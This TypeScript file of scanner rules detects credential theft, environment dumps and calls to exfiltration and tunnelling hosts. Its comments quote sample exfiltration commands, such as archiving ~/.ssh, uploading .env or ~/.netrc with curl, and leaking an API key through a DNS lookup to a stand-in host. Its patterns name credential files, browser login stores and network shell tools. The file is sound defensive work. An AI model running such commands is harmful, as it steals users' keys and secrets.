/** Rules of the credentials-and-environment and exfiltration-host classes (issue 28 item 2), in src/domain/scan/rules.ts's format. */
import { r, re, CREDENTIAL_PATH, CREDENTIAL_VERBS, SECRET_VARIABLE, type ScanRule } from "./rule-vocabulary";

export const SECRET_RULES: readonly ScanRule[] = [
  // ── Credentials and the environment ──
  {
    id: "credential-files",
    severity: "critical",
    class: "credentials_environment",
    explanation: "Reads, copies or sends a credential store (SSH keys, cloud, package or git credentials).",
    patterns: [
      {
        trigger: re(r`\b(?:${CREDENTIAL_VERBS})\b`, "gi"),
        window: 300,
        pattern: re(r`^(?:${CREDENTIAL_VERBS})\b[^\n]{0,100}?${CREDENTIAL_PATH}`),
      },
    ],
  },
  {
    id: "credential-exfiltration",
    severity: "critical",
    class: "credentials_environment",
    explanation: "Archives, dumps or sends credentials: the whole ~/.ssh (~/.aws, ~/.gnupg, ~/.kube…) folder, a .env file, the process environment, or a CLI's stored token.",
    patterns: [
      // `tar czf - ~/.ssh |`, `cat ~/.ssh/*`, `zip -r k.zip ~/.ssh` (the folder or all of it, not one named file).
      {
        trigger: re(r`\b(?:tar|zip|7z|cat|cp|scp|rsync|base64|gzip|xxd|type|get-content|compress-archive)\b`, "gi"),
        window: 300,
        pattern: re(r`^(?:tar|zip|7z|cat|cp|scp|rsync|base64|gzip|xxd|type|get-content|compress-archive)\b[^\n]{0,100}?(?:~|\$\{?HOME\}?|/home/[\w.-]{1,32}|/root|%USERPROFILE%|\$env:USERPROFILE)[/\\]\.(?:ssh|aws|gnupg|kube|docker|azure)(?:[/\\]\*|[/\\]?(?=[\s"'|;&)]|$))`),
      },
      // `curl --data-binary @.env`, `-F f=@config/.env`, `--upload-file .env`.
      { trigger: re(r`\b(?:curl|wget|http|https)\b`, "gi"), pattern: re(r`^(?:curl|wget|https?)\b[^\n]{0,300}?(?:@|--upload-file[=\s]\s{0,3}|\s-T\s{1,5})["']?[\w.~/-]{0,100}?\.env(?:\.[\w-]{1,20})?(?![\w./-])`) },
      // `curl -T ~/.netrc …`: a credential file uploaded (second attacker pass, F).
      {
        trigger: re(r`\b(?:curl|wget)\b`, "gi"),
        pattern: /^(?:curl|wget)\b[^\n]{0,300}?(?:--upload-file[=\s]\s{0,3}|\s-T\s{1,5}|--post-file[=\s]\s{0,3})/,
        then: re(r`^["']?[\w.~$/\\{}-]{0,100}?${CREDENTIAL_PATH}`),
      },
      // DNS exfiltration: a secret as part of a name looked up (`ping -c1 $OPENAI_API_KEY.x.example.com`).
      {
        trigger: /\b(?:ping|ping6|nslookup|dig|host|drill|getent)\b/g,
        pattern: /^(?:ping|ping6|nslookup|dig|host|drill|getent)\b[^\n]{0,100}?\$\{?[A-Za-z_]{0,40}(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|CREDENTIALS?)\}?["']?\.[\w-]/i,
      },
      { pattern: /\/proc\/(?:self|\d{1,7}|\$\$|\*|\$\w{1,20})\/environ\b/ },
      // A CLI's stored credentials piped to the network or an encoder.
      {
        trigger: /\b(?:export|gh|git|aws|gcloud|az)\b/g,
        pattern: re(r`^(?:export\s{1,5}-p|gh\s{1,5}auth\s{1,5}token|git\s{1,5}credential\s{1,5}fill|git\s{1,5}config\s{1,5}(?:--(?:global|system|local)\s{1,5})?--get(?:-regexp|-all)?\s{1,5}["']?credential|aws\s{1,5}configure\s{1,5}export-credentials|gcloud\s{1,5}auth\s{1,5}print-access-token|az\s{1,5}account\s{1,5}get-access-token)\b[^\n|]{0,100}\|[^\n]{0,200}?\b(?:curl|wget|nc|ncat|netcat|socat|iwr|irm|invoke-webrequest|invoke-restmethod|base64|xxd|scp|openssl)\b`),
      },
      // `env > f; curl -F f=@f …`: the environment saved to a file that is then uploaded (within the window).
      {
        trigger: /\b(?:env|printenv|export|set)\b/g,
        window: 600,
        pattern: /^(?:env|printenv|export\s{1,5}-p|set)\s{0,3}>{1,2}\s{0,3}["']?[^\s;&|"']{1,100}/,
        then: /^[^\n]{0,400}?(?:\s-F\s{1,5}[\w-]{1,30}=@|--form[=\s][\w-]{1,30}=@|\s--data(?:-binary|-urlencode)?[=\s]\s{0,3}["']?@|\s-d\s{0,3}["']?@|--upload-file[=\s]|\s-T\s)/,
      },
    ],
  },
  {
    id: "credential-store-read",
    severity: "high",
    class: "credentials_environment",
    explanation: "Reads a password store: the macOS keychain, a browser's cookies or saved logins, or a CLI's stored credentials.",
    patterns: [
      { pattern: /\bsecurity\s{1,5}(?:find-generic-password|find-internet-password|dump-keychain)\b|\bgit\s{1,5}credential\s{1,5}fill\b|\baws\s{1,5}configure\s{1,5}export-credentials\b/i },
      {
        trigger: re(r`\b(?:chrome|chromium|google-chrome|brave[\w-]{0,20}|microsoft\s{1,3}edge|edge|firefox|opera|vivaldi)\b`, "gi"),
        window: 300,
        pattern: re(r`^(?:chrome|chromium|google-chrome|brave[\w-]{0,20}|microsoft\s{1,3}edge|edge|firefox|opera|vivaldi)\b[\w ./\\-]{0,120}?[/\\](?:cookies|login\s{1,3}data|web\s{1,3}data|key4\.db|logins\.json|cookies\.sqlite)(?![\w.-])`),
      },
    ],
  },
  {
    id: "secret-in-url",
    severity: "high",
    class: "credentials_environment",
    explanation: "Puts a secret (a key, token or password variable) in a URL's query string, where proxies and server logs keep it.",
    patterns: [
      {
        trigger: re(r`\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|http|https|fetch|axios)\b`, "gi"),
        pattern: re(r`^(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|https?|fetch|axios)\b[^\n]{0,300}?https?://[^\s"'<>?#]{1,300}\?[^\s"'<>#]{0,300}?=\s{0,3}(?:\$\{?|\$env:|\$\{process\.env\.)[A-Za-z_]{0,40}(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|CREDENTIALS?)\b`),
      },
    ],
  },
  {
    id: "credential-path",
    severity: "high",
    class: "credentials_environment",
    explanation: "Names a private key or credential file.",
    patterns: [{ pattern: /\.ssh[/\\]id_(?:rsa|ed25519|ecdsa|dsa)\b(?!\.pub)|\.aws[/\\]credentials\b|\.git-credentials\b|\.pypirc\b|wallet\.dat\b|\.docker[/\\]config\.json\b|\/etc\/shadow\b/i }],
  },
  {
    id: "env-dump-send",
    severity: "critical",
    class: "credentials_environment",
    explanation: "Sends the whole environment (where secrets live) over the network.",
    // Case-sensitive: `env` and `printenv` are lower-case commands, while `$(ENV)` is a make variable.
    patterns: [
      {
        trigger: /\b(?:printenv|env|set|Get-ChildItem|get-childitem|gci|dir|ls)\b/g,
        pattern: /^(?:printenv|env|set|(?:Get-ChildItem|get-childitem|gci|dir|ls)\s{1,5}[Ee]nv:)\s{0,5}\|[^\n]{0,300}\b(?:curl|wget|nc|ncat|netcat|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|invoke-webrequest|invoke-restmethod|telnet)\b/,
      },
      {
        trigger: /\b(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|invoke-webrequest|invoke-restmethod)\b/g,
        pattern: /^(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|invoke-webrequest|invoke-restmethod)\b[^\n]{0,300}(?:\$\(\s{0,3}(?:env|printenv)\s{0,3}\)|`\s{0,3}(?:env|printenv)\s{0,3}`|<\(\s{0,3}(?:env|printenv)\b|\$env:\*|Get-ChildItem\s{1,5}[Ee]nv:)/,
      },
    ],
  },
  {
    id: "env-dump",
    severity: "high",
    class: "credentials_environment",
    explanation: "Reads the whole environment at once, where secrets live.",
    patterns: [
      { trigger: /\b(?:JSON|Object|json)\b/g, pattern: /^(?:JSON\.stringify\(\s{0,5}process\.env\s{0,5}[,)]|Object\.(?:entries|values)\(\s{0,5}process\.env\s{0,5}\)|json\.dumps\(\s{0,5}(?:dict\(\s{0,5})?os\.environ\b)/ },
    ],
  },
  {
    id: "secret-exfiltration",
    severity: "critical",
    class: "credentials_environment",
    explanation: "Sends a secret (a key, token or password variable, or a credential file) in a request body.",
    patterns: [
      {
        // Case-sensitive: curl's -F (form) is not -f (fail), -T (upload) is not -t.
        trigger: re(r`\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod)\b`, "gi"),
        pattern: /^[A-Za-z-]{3,20}\b[^\n]{0,300}?(?:\s-d\s{0,3}|\s-d['"$@]|--data(?:-[a-z]{1,12})?[\s=]|--form[\s=]|\s-F\s|--upload-file[\s=]|\s-T\s|\s-Body\s|\s-InFile\s|\s--post-(?:data|file)[\s=])/,
        then: new RegExp(r`^[^\n]{0,200}?(?:${SECRET_VARIABLE}|@\s{0,3}(?:~|\$\{?HOME\}?)/\.(?:ssh|aws|gnupg|kube|docker|netrc|git-credentials)|\$\((?:cat|env|printenv)\b)`),
      },
      { trigger: /\b(?:requests|httpx)\b/g, pattern: /^(?:requests|httpx)\.(?:post|put|patch)\s{0,3}\([^\n]{0,300}?\b(?:data|json|files)\s{0,3}=[^\n]{0,100}?(?:os\.environ|os\.getenv|open\()/ },
      { trigger: /\b(?:fetch|axios)\b/g, pattern: /^(?:fetch|axios(?:\.post|\.put)?)\s{0,3}\([^\n]{0,300}?\bbody\s{0,3}:[^\n]{0,100}?(?:process\.env|readFileSync)/ },
    ],
  },
  // ── Exfiltration hosts ──
  {
    id: "suspicious-host",
    severity: "high",
    class: "exfiltration_host",
    explanation: "Calls a host used for data capture, paste or tunnelling.",
    patterns: [
      {
        pattern:
          /\b(?:webhook\.site|requestbin\.(?:com|net)|pipedream\.net|ngrok(?:-free)?\.(?:io|app|dev)|pastebin\.com|transfer\.sh|burpcollaborator\.net|interact\.sh|oast\.(?:fun|me|pro|live|site|online)|hookbin\.com|beeceptor\.com|requestcatcher\.com|canarytokens\.com|0x0\.st|termbin\.com|file\.io|trycloudflare\.com|serveo\.net|localtunnel\.me|loca\.lt|discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot)\b/i,
      },
    ],
  },
  {
    id: "raw-ip-url",
    severity: "high",
    class: "exfiltration_host",
    explanation: "Calls a URL by raw IP address.",
    patterns: [{ pattern: /\bhttps?:\/\/(?!127\.|0\.0\.0\.0\b)\d{1,3}(?:\.\d{1,3}){3}\b/i }],
  },
  {
    id: "exfiltrate-word",
    severity: "high",
    class: "exfiltration_host",
    explanation: "Mentions exfiltrating data.",
    patterns: [{ pattern: /\bexfiltrat(?:e|es|ed|ion|ing)\b/i }],
  },
];
